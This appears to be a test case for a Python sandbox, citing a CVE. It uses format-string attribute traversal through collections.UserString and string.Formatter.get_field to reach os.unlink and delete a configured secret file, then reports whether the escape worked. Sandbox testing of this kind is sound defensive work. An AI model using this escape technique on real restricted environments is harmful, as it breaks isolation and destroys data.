# expect: done
# idea: format through collections.UserString and through the formatter of the string module, whose get_field returns objects
# source: CVE-2026-76825
import collections


def tick(ctx):
    text = collections.UserString("{0.__class__.__init__.__globals__}")
    print(str(text.format(text))[:60])
    string = print.__self__.__import__("sys").modules.get("string")
    if string is None:
        print("string is not loaded")
        return
    walk = "0.__class__.format.__globals__[_sys].modules[os].unlink"
    found, first = string.Formatter().get_field(walk, (text,), {})
    try:
        found(ctx.config["secret_file"])
        print("ESCAPED: removed a file")
    except Exception as error:
        print("refused:", first, error)
